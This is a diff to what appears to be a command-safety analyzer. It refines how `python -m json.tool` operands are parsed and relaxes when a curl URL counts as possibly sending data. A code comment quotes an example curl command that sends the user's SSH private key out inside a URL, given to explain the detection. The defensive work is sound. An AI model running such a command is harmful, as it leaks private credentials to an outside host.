@@ -4095,6 +4095,19 @@ _CODE_WRITES = ("open(", ".write", "write_text", "write_bytes", "remove(", "unli
                 "fileutils", "system(", "`")
 
 
+def _json_tool_operands(args: List[_W]) -> List[_W]:
+    """infile and outfile of `python -m json.tool` (--indent takes a value)."""
+    ops, skip = [], False
+    for w in args:
+        if skip:
+            skip = False
+        elif w.text == "--indent":
+            skip = True
+        elif not w.text.startswith("-"):
+            ops.append(w)
+    return ops
+
+
 def _interp(lang: str) -> Callable[[str, List[_W], _Ctx], _V]:
     code_flags = {"python": ("-c",), "node": ("-e", "--eval", "-p", "--print"),
                   "perl": ("-e", "-E"), "ruby": ("-e",), "php": ("-r",),
@@ -4122,12 +4135,12 @@ def _interp(lang: str) -> Callable[[str, List[_W], _Ctx], _V]:
                 if mod == "pip":
                     v = _pip("pip", args[2:], ctx)
                     return _unknown("repository_code") if v.mut == "read" else v
-                ops = [w for w in args[2:] if not w.text.startswith("-")]
+                ops = _json_tool_operands(args[2:])
                 if len(ops) >= 2:
                     return _write([ops[1]])
                 return _unknown("repository_code")
             if mod == "json.tool" and all(w.static for w in args[2:]):
-                ops = [w for w in args[2:] if not w.text.startswith("-")]
+                ops = _json_tool_operands(args[2:])
                 if len(ops) >= 2:
                     return _write([ops[1]])
                 return _an_read() if all(w.static and not w.glob for w in args[2:]) else _unknown()
@@ -5009,9 +5022,12 @@ def _curl(name: str, args: List[_W], ctx: _Ctx) -> _V:
     writes = _curl_writes(args)
     if writes is not None:
         return writes
-    if not all(w.static for w in args):
+    if not all(w.static or (not w.dyn and w.text.lower().startswith(("http://", "https://")))
+               for w in args):
         # A URL, header or agent built from a variable or a substitution
         # sends whatever it holds: `curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`.
+        # (An unquoted `?` in a URL is a glob, but it could only match names
+        # under a folder called `https:`, not local data.)
         return _unknown("network_data_unproven")
     i = 0
     while i < len(args):
